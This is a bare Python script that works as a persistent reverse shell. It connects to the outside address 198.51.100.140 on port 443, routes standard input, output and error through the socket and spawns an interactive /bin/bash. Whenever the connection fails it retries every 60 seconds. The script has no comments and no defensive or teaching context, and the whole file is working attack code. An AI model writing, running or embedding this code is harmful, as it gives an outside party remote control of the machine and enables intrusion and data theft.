import os, pty, socket, time
HOST, PORT = "198.51.100.140", 443
while True:
    try:
        s = socket.create_connection((HOST, PORT), timeout=9)
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/bash")
    except OSError:
        time.sleep(60)
